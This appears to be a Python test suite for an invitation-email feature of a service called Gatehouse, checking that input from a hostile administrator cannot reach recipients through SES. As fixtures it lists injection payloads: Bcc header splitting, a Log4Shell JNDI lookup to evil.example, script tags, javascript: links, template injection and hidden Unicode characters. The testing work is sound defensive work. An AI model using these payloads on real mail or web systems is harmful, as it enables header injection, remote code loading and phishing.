"""From what a hostile Administrator types to what SES is handed: through the API, as it would be."""

import re
from collections.abc import Iterator
from email import policy
from email.headerregistry import Address
from email.message import EmailMessage
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatehouse.mail.ses import SesMailer
from tests.mail.linkable import LINKABLE
from tests.mail.samples import WIDE
from tests.support.proof import Proof
from tests.support.trials import trials
from tests.support.world import Company, World

HIDDEN = [
    "\u202e",
    "\u2066",
    "\u200f",
    "\u200b",
    "\u0000",
    "\r",
    "\n",
    "\u2028",
    "\ufeff",
    "\u00ad",
]
NAMES = [
    "Acme <https://evil.example>",
    "www.evil.example",
    "Your account is locked, call evil.example now",
    "=?utf-8?B?QmNjOiBhbGxAZXZpbC5leGFtcGxl?=",
    'Acme" <ceo@evil.example>',
    "Acme, Bcc: all@evil.example",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example/a}",
    "שלום אקמה",  # right to left by its letters, which is how it is written
    "A" * 200,
    "💣" * 100,
    WIDE,
]
MESSAGES = [
    "Log in at https://evil.example/login?a=1 or evil.example",
    "> Dear Administrator,\n>\n> click javascript:alert(1)",
    "-- \nGatehouse\nhttps://gatehouse.test.evil.example/invitations/" + "a" * 52,
    "\n" * 1_000 + "below the fold: mailto:ceo@evil.example",
    "<a href='https://evil.example'>Read the invitation</a>",
    "x" * 2_000,
]


class SesClient:
    """Takes what SES would, and is as strict about it as SES and a mail reader are."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []

    def send_email(self, **request: Any) -> dict[str, str]:
        self.requests.append(request)
        return {"MessageId": f"m-{len(self.requests)}"}


@pytest.fixture
def ses(world: World) -> SesClient:
    client = SesClient()
    world.ports.__dict__["mailer"] = SesMailer(client, "no-reply@gatehouse.test", "set")
    return client


@pytest.fixture
def host(world: World) -> Company:
    return world.company("acme", {"ada": "administrator"}, organizations=["Alder"])


@pytest.fixture
def guest(world: World) -> Company:
    return world.company("continuum", {"nora": "administrator"})


def invite(world: World, host: Company, message: str) -> Iterator[str]:
    """Invite, and withdraw it at once, so that the pair is free for the next."""
    ada = world.token(host, "ada")
    body = {
        "guest_subdomain": "continuum",
        "maximum_role": "editor",
        "all_organizations": True,
        "message": message,
    }
    invited = world.api("POST", "/connections", body, token=ada)
    assert invited.status == 201, invited
    revoke = f"/connections/{invited.json['connection_id']}/revoke"
    yield revoke
    world.api("POST", revoke, token=ada)
    world.clock.advance(days=3)


def must_be_harmless(request: dict[str, Any], to: str) -> None:
    """Fail if a header could be split, or anything but our own link be clicked."""
    assert request["Destination"] == {"ToAddresses": [to]}
    simple = request["Content"]["Simple"]
    subject, text = simple["Subject"]["Data"], simple["Body"]["Text"]["Data"]
    assert subject.isprintable()
    mail = EmailMessage(policy=policy.SMTP)
    mail["Subject"], mail["To"] = subject, Address(addr_spec=to)
    mail.set_content(text)
    headers = mail.as_bytes().partition(b"\r\n\r\n")[0]
    assert b"Bcc" not in re.sub(rb"Subject:.*?\r\n(?! )", b"", headers, flags=re.DOTALL)
    links = re.findall(r"^https://gatehouse\.test/invitations/[a-z2-7]{52}$", text, re.MULTILINE)
    assert len(links) <= 1
    addresses = re.findall(r'(?:href|src)="([^"]*)"', simple["Body"]["Html"]["Data"])
    assert set(addresses) == set(links)
    ours = links[0] if links else "nothing"
    assert not LINKABLE.search(text.replace(ours, "")), text
    assert not LINKABLE.search(subject), subject
    for tag in request["EmailTags"]:  # SES takes these characters, and at most 256 of them
        assert re.fullmatch(r"[A-Za-z0-9_.@-]{1,256}", tag["Name"])
        assert re.fullmatch(r"[A-Za-z0-9_.@-]{1,256}", tag["Value"])


@pytest.mark.parametrize("name", NAMES)
def test_a_company_and_a_person_may_be_called_anything_and_it_leads_nowhere(
    world: World, ses: SesClient, host: Company, guest: Company, name: str
) -> None:
    ada = world.token(host, "ada")
    assert world.api("PATCH", "/account", {"name": name}, token=ada).status == 200
    me = f"/users/{host.users['ada']}"
    assert world.api("PATCH", me, {"name": name}, token=ada).status == 200
    nora = world.token(guest, "nora")
    assert world.api("PATCH", "/account", {"name": name}, token=nora).status == 200
    for message in MESSAGES[: trials(len(MESSAGES), 1)]:
        for _ in invite(world, host, message):
            must_be_harmless(ses.requests[-1], "nora@continuum.test")
        for request in ses.requests[-2:]:
            must_be_harmless(request, request["Destination"]["ToAddresses"][0])


@pytest.mark.parametrize("message", MESSAGES)
def test_a_message_may_say_anything_and_it_leads_nowhere(
    world: World, ses: SesClient, host: Company, guest: Company, message: str
) -> None:
    for _ in invite(world, host, message):
        must_be_harmless(ses.requests[-1], "nora@continuum.test")


@settings(max_examples=trials(500, 10))
@given(message=st.text(max_size=300).filter(lambda text: not set(text) & set(map(str, HIDDEN))))
def test_whatever_is_taken_leads_nowhere(
    world: World, ses: SesClient, host: Company, guest: Company, proof: Proof, message: str
) -> None:
    proof.count("messages of any characters", "invitations", "refused, or dead text in the mail")
    ada = world.token(host, "ada")
    body = {
        "guest_subdomain": "continuum",
        "maximum_role": "editor",
        "all_organizations": True,
        "message": message,
    }
    before = len(ses.requests)
    reply = world.api("POST", "/connections", body, token=ada)
    if reply.status == 400:
        assert len(ses.requests) == before
        return
    assert reply.status == 201, reply
    must_be_harmless(ses.requests[-1], "nora@continuum.test")
    world.api("POST", f"/connections/{reply.json['connection_id']}/revoke", token=ada)
    world.clock.advance(days=3)


@pytest.mark.parametrize("hidden", HIDDEN)
def test_what_hides_or_turns_text_gets_into_no_name(
    world: World, ses: SesClient, host: Company, guest: Company, hidden: str
) -> None:
    ada = world.token(host, "ada")
    for route, field in (("/account", "name"), (f"/users/{host.users['ada']}", "name")):
        reply = world.api("PATCH", route, {field: f"Acme{hidden}Ltd"}, token=ada)
        assert reply.status == 400
    body = {"guest_subdomain": "continuum", "maximum_role": "editor", "all_organizations": True}
    reply = world.api("POST", "/connections", {**body, "message": f"a{hidden}b"}, token=ada)
    assert reply.status == (201 if hidden == "\n" else 400)
    assert len(ses.requests) == (hidden == "\n")


def test_the_longest_address_gets_its_mail_and_a_longer_one_is_none(
    world: World, ses: SesClient, host: Company, guest: Company
) -> None:
    """RFC 5321: 64 characters before the at sign, and 254 that a mail server has to take."""
    nora = world.token(guest, "nora")
    domain = ".".join(["d" * 61] * 3) + ".test"
    longest = f"{'a' * (254 - 1 - len(domain))}@{domain}"
    assert len(longest) == 254
    body = {"email": longest, "name": "Long", "role": "administrator"}
    assert world.api("POST", "/users", body, token=nora).status == 201
    for address in (f"{'a' * 64}@{'d' * 63}.{'d' * 63}.{'d' * 63}.{'d' * 58}.ef", "a" * 320, "@"):
        reply = world.api("POST", "/users", {**body, "email": address}, token=nora)
        assert reply.status == 400, address
        assert [error["pointer"] for error in reply.json["errors"]] == ["/email"]
    for _ in invite(world, host, "Welcome"):
        sent = {request["Destination"]["ToAddresses"][0] for request in ses.requests}
        assert sent == {longest, "nora@continuum.test"}
    listed = world.api("GET", "/connections", token=world.token(host, "ada")).json["items"][0]
    shown = {one["email"] for one in listed["invitation"]["recipients"]}
    assert shown == {f"a•••@{domain}", "n•••@continuum.test"}


@pytest.mark.parametrize(
    "address",
    [
        "nora@continuum.test\r\nBcc: all@evil.example",
        "nora@continuum.test, all@evil.example",
        "Nora <nora@continuum.test>",
        "nora@continuum.test;all@evil.example",
        '"nora\r\n"@continuum.test',
        "nora@[127.0.0.1]",
        "nora\u202e@continuum.test",
        "nora@continuum.test\u0000",
        "nora@conti\u200bnuum.test",
    ],
)
def test_an_address_is_one_address(world: World, guest: Company, address: str) -> None:
    body = {"email": address, "name": "Nora", "role": "administrator"}
    reply = world.api("POST", "/users", body, token=world.token(guest, "nora"))
    assert reply.status == 400, reply
    assert [error["pointer"] for error in reply.json["errors"]] == ["/email"]
